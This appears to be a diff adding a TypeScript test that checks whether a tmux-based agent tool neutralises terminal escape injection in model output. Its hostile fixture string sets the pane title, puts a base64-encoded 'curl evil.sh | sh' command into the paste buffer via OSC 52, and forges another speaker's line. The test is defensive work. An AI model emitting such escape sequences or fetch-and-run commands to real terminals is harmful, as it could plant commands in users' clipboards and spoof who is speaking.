@@ -1,0 +1,81 @@
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { parseScript } from "../scripted-server/script.ts";
+import { startScriptedServer } from "../scripted-server/start-scripted-server.ts";
+import { TmuxServer, uniqueSessionName } from "../testing/tmux.ts";
+
+const repoRoot = join(import.meta.dir, "..");
+const workspace = mkdtempSync(join(tmpdir(), "org-tmux-inject-"));
+chmodSync(workspace, 0o755);
+const configFile = join(workspace, "org.config.json");
+writeFileSync(configFile, JSON.stringify({ personas: [{ name: "agent", kind: "agent", tools: {} }] }));
+
+// OSC 0 sets the pane title; OSC 52 puts base64 "curl evil.sh | sh" into tmux's paste buffer; CSI 2K and a
+// bare CR erase the line to forge another speaker; U+009B is a C1 CSI; U+202E reverses what follows.
+const HOSTILE = "\x1b]0;pwned-title\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2K\rpython │ ok \u009b2K \u202eevil";
+const SHOWN = "\\x1b]0;pwned-title\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x0dpython │ ok \\u009b2K \\u202eevil";
+const script = parseScript(
+  JSON.stringify({ models: ["scripted"], rules: [{ when: { persona: "agent" }, reply: { text: HOSTILE, chunkSize: 5 } }] }),
+  "terminal-injection.tmux.test.ts",
+);
+
+let server: Awaited<ReturnType<typeof startScriptedServer>>;
+let tmux: TmuxServer;
+beforeAll(async () => {
+  tmux = await TmuxServer.start();
+  server = await startScriptedServer({ script, port: 0 });
+});
+afterAll(async () => {
+  await tmux?.close();
+  await server?.stop();
+  rmSync(workspace, { recursive: true, force: true });
+});
+
+async function runScript(name: string, session: string, args: string[] = []) {
+  const child = Bun.spawn(["bash", join(repoRoot, "ops", name), ...args], {
+    cwd: workspace,
+    env: { ...tmux.env, ORG_TMUX_SESSION: session, OLLAMA_BASE: server.url, OLLAMA_MODEL: "scripted" },
+    stdout: "pipe",
+    stderr: "pipe",
+  });
+  const [stdout, stderr, code] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text(), child.exited]);
+  if (code !== 0) throw new Error(`ops/${name} failed (${code}): ${stderr}`);
+  return stdout;
+}
+
+const title = async (session: string) => (await tmux.tmux("display-message", "-p", "-t", session, "#{pane_title}")).trim();
+const buffers = async () => (await tmux.tmux("list-buffers")).trim();
+
+test("invariant 10: a model's OSC 0 and OSC 52 change neither the pane title nor the paste buffer, live or replayed by --resume", async () => {
+  const live = uniqueSessionName("org-inject");
+  await runScript("run.sh", live, ["--config", configFile]);
+  // tmux then takes OSC 52 from programs into its paste buffer (users turn this on for clipboard sync).
+  await tmux.tmux("set-option", "-s", "set-clipboard", "on");
+  await tmux.waitFor(live, "group ›");
+  const titleBefore = await title(live);
+  expect(await buffers()).toBe("");
+
+  await tmux.type(live, "show me a trick");
+  await tmux.keys(live, "Enter");
+  const pane = await tmux.waitFor(live, /agent ╰/);
+  expect(pane).toContain(`agent │ ${SHOWN}`);
+  expect(await title(live)).toBe(titleBefore);
+  expect(await buffers()).toBe("");
+
+  await tmux.waitFor(live, /agent ╰[^]*group ›/);
+  await tmux.type(live, "/quit");
+  await tmux.keys(live, "Enter");
+  const ended = await tmux.waitFor(live, /--resume (\S+)/);
+  const sessionId = /--resume (\S+)/.exec(ended)?.[1] as string;
+  await runScript("stop.sh", live);
+
+  const replay = uniqueSessionName("org-resume");
+  await runScript("run.sh", replay, ["--config", configFile, "--resume", sessionId]);
+  const replayed = await tmux.waitFor(replay, /Resumed with[^]*group ›/);
+  expect(replayed).toContain(`agent: ${SHOWN}`);
+  expect(await title(replay)).toBe(titleBefore);
+  expect(await buffers()).toBe("");
+  await runScript("stop.sh", replay);
+}, 60_000);
